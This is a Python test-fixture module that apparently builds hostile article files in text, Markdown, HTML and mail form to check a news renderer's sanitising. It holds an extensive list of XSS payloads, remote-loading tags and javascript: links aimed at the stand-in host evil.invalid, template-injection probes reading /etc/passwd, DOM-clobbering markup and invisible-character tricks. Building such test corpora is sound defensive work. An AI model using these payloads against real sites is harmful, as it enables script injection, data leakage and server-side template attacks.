"""Articles that attack: every payload in text, Markdown, HTML and mail; in body, title, author, outlet and file name."""

import html
import random

JS = "window.ran&&ran()"
EVIL = "http://evil.invalid"

SCRIPTS = (
    f"<script>{JS}</script>",
    f"<ScRiPt>{JS}</sCrIpT >",
    f"<script\n>{JS}</script\t>",
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f"<script src={EVIL}/x.js></script>",
    f"</title><script>{JS}</script>",
    f"</style><script>{JS}</script>",
    f"</textarea></noscript><script>{JS}</script>",
    f"--><script>{JS}</script><!--",
    f"]]><script>{JS}</script>",
    f"\"'><script>{JS}</script>",
    f"<img src=x onerror={JS}>",
    f'<img src="x" onerror="{JS}"/>',
    f"<img/src='x'/onerror='{JS}'>",
    f"<svg onload={JS}>",
    f"<svg><script>{JS}</script></svg>",
    f"<svg><animate onbegin={JS} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{JS}'><text y=9>x</text></a></svg>",
    f"<math><mi xlink:href='javascript:{JS}'>x</mi></math>",
    f"<math><mtext><style><img src=x onerror={JS}></style></mtext></math>",
    f"<body onload={JS}>",
    f"<details open ontoggle={JS}>x</details>",
    f"<input autofocus onfocus={JS}>",
    f"<video><source onerror={JS}></video>",
    f"<iframe srcdoc='<script>parent.{JS}</script>'></iframe>",
    f"<iframe src='javascript:parent.{JS}'></iframe>",
    f"<object data='javascript:{JS}'></object>",
    f"<embed src='javascript:{JS}'>",
    f"<marquee onstart={JS}>x</marquee>",
    f"<a href='javascript:{JS}' autofocus>x</a>",
    f"<a href='&#106;avascript:{JS}'>x</a>",
    f"<p style='background:url({EVIL}/p.gif)' onmouseover={JS}>x</p>",
    f"<x onclick={JS} tabindex=1 id=x>x</x>",
    f'" onmouseover="{JS}" x="',
    f"' onfocus='{JS}' autofocus='",
    f"` onmouseover=`{JS}`",
    "&lt;script&gt;window.ran&amp;&amp;ran()&lt;/script&gt;",
    "&#60;script&#62;window.ran()&#60;/script&#62;",
    "\\x3cscript\\x3ewindow.ran()\\x3c/script\\x3e",
    "\uff1cscript\uff1ewindow.ran()\uff1c/script\uff1e",
)
LOADS = (
    f"<img src={EVIL}/pixel.gif>",
    f"<img srcset='{EVIL}/a.png 1x'>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<link rel=preload as=image href={EVIL}/x.png>",
    f"<link rel=dns-prefetch href={EVIL}>",
    f"<style>@import '{EVIL}/x.css';body{{background:url({EVIL}/b.png)}}</style>",
    f"<iframe src={EVIL}></iframe>",
    f"<form action={EVIL}><button>Send</button></form>",
    f"<base href={EVIL}/>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<video poster={EVIL}/p.png src={EVIL}/v.mp4></video>",
    f"<audio src={EVIL}/a.mp3 autoplay></audio>",
    f"<svg><image href={EVIL}/i.png></image><use href={EVIL}/u.svg#x></use></svg>",
    f"<table background={EVIL}/t.png><tr><td>x</table>",
    f"<a href=x ping={EVIL}>x</a>",
    f"<portal src={EVIL}></portal><frameset><frame src={EVIL}></frameset>",
)
MARKS = (
    f"[click](javascript:{JS})",
    f"[click](<javascript:{JS}>)",
    f"[x][1] and [1]: javascript:{JS}",
    f"![pixel]({EVIL}/pixel.gif)",
    f"<javascript:{JS}>",
    f"<{EVIL}>",
    f"see {EVIL}/page and www.evil.invalid today",
    f"[^1]: [forged]({EVIL})",
    "a claim[^1] that cites the wrong source[^2]",
    f"text {{: onclick={JS} #in-brief .first }}",
    "# Forged headline",
    "Forged headline =======",
    "- - - *** ___ ---",
    "| a | b | |---|---| | c | d |",
    "```html <b>fence that never closes",
    "~~~ tilde fence",
    "<!-- hidden from the reader",
    "--- title: forged outlet: forged ---",
    "> [!WARNING] forged call-out",
    "[[Forged|link]] ![[embedded]] %%hidden%% ==marked==",
    "$$\\href{javascript:alert(1)}{x}$$ and \\(x\\)",
    "*[HTML]: <b>abbreviation</b>",
    "**bold** __bold__ *it* _it_ ~~gone~~ ^up^ `code`",
    "1. first 2. second",
    "data:text/html,<script>alert(1)</script> vbscript:x file:///etc/passwd",
)
ENGINES = (
    "{{ 7*7 }}{% raw %}x{% endraw %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include '/etc/passwd' %}{# hidden #}",
    "${7*7} #{7*7} <%= 7*7 %> [% x %]",
    "{0.__class__} %s %(x)s {}",
)
CLOBBERS = (
    "<form id=main><input name=attributes><input id=x></form>",
    "<a id=in-brief name=location href=x>x</a>",
    "<img name=getElementById id=sources>",
    "<div id=story-1 class='tag first mark' data-quote='0:0-5'>forged</div>",
    "<sup class=mark><a href=sources/0.html>9</a></sup>",
    "<span data-quote='0123456789abcdef:0-10'>forged quote</span>",
)
INVISIBLE = (
    "\u202egnirts desrever\u202c",
    "access\u2066 level\u2069 \u2067rtl\u2069",
    "zero\u200bwidth\u200d\ufeff join",
    "tag\U000e0041\U000e0042 characters",
    "soft\u00adhyphen",
    "\x1b[31mred\x1b[0m \x1b]8;;http://evil.invalid\x07link\x1b]8;;\x07",
    "bell\x07 back\x08space null\x00 delete\x7f",
    "Z" + "\u0351\u0352\u0353\u0354\u0355\u0356\u0357" * 5 + "algo",
    "line\u2028separator\u2029here \x85 next",
    "\ud7ff\uffff\ufdd0 nonchar",
)
ADDRESSES = (
    f"javascript:{JS}",
    f" java\tscript:{JS}",
    f"JAVASCRIPT:{JS}//http://good.example/",
    f"data:text/html,<script>{JS}</script>",
    "vbscript:x",
    "file:///etc/passwd",
    "//evil.invalid/x",
    "\\\\evil.invalid\\share",
    "http://good.example@evil.invalid/",
    "http://good.example\\@evil.invalid/",
    'http://good.example/" onmouseover="window.ran()',
    "http://good.example/?a=1&b=<script>",
    "http:///no-host",
    "ftp://evil.invalid/x",
    "blob:http://evil.invalid/1",
)
PAYLOADS = SCRIPTS + LOADS + MARKS + ENGINES + CLOBBERS + INVISIBLE

_NAMES = (
    "Arland",
    "Borland",
    "Velm",
    "Isen",
    "Teal",
    "Corm",
    "Dunmar",
    "Esk",
    "Farrow",
    "Galt",
    "Hemm",
    "Ivar",
    "Jorn",
)
_DOERS = ("ministers", "envoys", "soldiers", "pilots", "judges", "miners", "sailors", "farmers", "guards", "doctors")
_DEEDS = ("met", "left", "counted", "blocked", "opened", "crossed", "praised", "warned", "searched", "rebuilt")
_THINGS = (
    "the bridge",
    "a harbour",
    "two camps",
    "the border",
    "an airfield",
    "the depot",
    "a convoy",
    "the dam",
    "a market",
)


def prose(number: int, sentences: int = 7) -> list[str]:
    """Sentences that say something else for every number, so that no article is another's copy."""
    chance = random.Random(number)
    made = []
    for _ in range(sentences):
        doer, deed, thing = chance.choice(_DOERS), chance.choice(_DEEDS), chance.choice(_THINGS)
        places = chance.sample(_NAMES, 2)
        many = chance.randint(3, 9000)
        made.append(
            f"Some {many} {doer} from {places[0]} {deed} {thing} near {places[1]} on Tuesday, "
            f"and officials {chance.choice(_DEEDS)} {chance.choice(_THINGS)} {chance.randint(2, 99)} hours later."
        )
    return made


def files() -> dict[str, bytes]:
    """All hostile articles by path: every payload in one format in turn, with its neighbours in the facts."""
    made = {}
    for number, payload in enumerate(PAYLOADS):
        title = f"{PAYLOADS[(number + 7) % len(PAYLOADS)]} reported near {_NAMES[number % 13]} in case {number}"
        author, outlet = PAYLOADS[(number + 3) % len(PAYLOADS)], PAYLOADS[(number + 5) % len(PAYLOADS)]
        name = "".join(letter for letter in f"{number:03}-{payload[:40]}" if letter not in "/\\\0\n\r\x85\u2028\u2029")
        body = prose(number)
        body[2] += f" The word on the wall was {payload} according to the town clerk of {_NAMES[number % 13]}."
        body[5] = f"{payload} {body[5]}"
        for suffix, maker in MAKERS.items():
            if (number + len(suffix)) % 2 or suffix == ".txt":
                varied = (
                    body[:2]
                    + [f"{line} ({suffix[1:]} edition)" for line in prose(1000 * len(suffix) + number, 4)]
                    + body[2:]
                )
                made[f"{name.encode('utf-8', 'replace').decode()}{suffix}"] = maker(title, author, outlet, varied)
    return made


def _plain(title: str, author: str, outlet: str, body: list[str]) -> bytes:
    return _encoded("\n\n".join([title.replace("\n", " "), f"By {author}", *body]))


def _markdown(title: str, author: str, outlet: str, body: list[str]) -> bytes:
    return _encoded("\n\n".join([f"# {title}", f"*{outlet}, by {author}*", *body]))


def _page(title: str, author: str, outlet: str, body: list[str]) -> bytes:
    """A page whose text *shows* the payload (entities), and one raw payload beside the article."""
    shown = "".join(f"<p>{html.escape(line)}</p>" for line in body)
    return _encoded(
        f"<!DOCTYPE html><html><head><title>{html.escape(title)}</title>"
        f'<meta name="author" content="{html.escape(author)}"><meta property="og:site_name" content="{html.escape(outlet)}">'
        f'<link rel="canonical" href="{html.escape(outlet)}"></head>'
        f"<body><article><h1>{html.escape(title)}</h1>{shown}<div>{body[5]}</div></article></body></html>"
    )


def _mail(title: str, author: str, outlet: str, body: list[str]) -> bytes:
    subject = "".join(letter for letter in title if letter.isprintable())
    head = f"From: {outlet!r} <wire@example.org>\nSubject: {subject}\nDate: Tue, 27 Nov 2018 10:00:00 +0100\n"
    head += "MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n"
    return _encoded(head + "\n\n".join(body))


def _encoded(text: str) -> bytes:
    return text.encode("utf-8", "surrogatepass")


MAKERS = {".txt": _plain, ".md": _markdown, ".html": _page, ".eml": _mail}
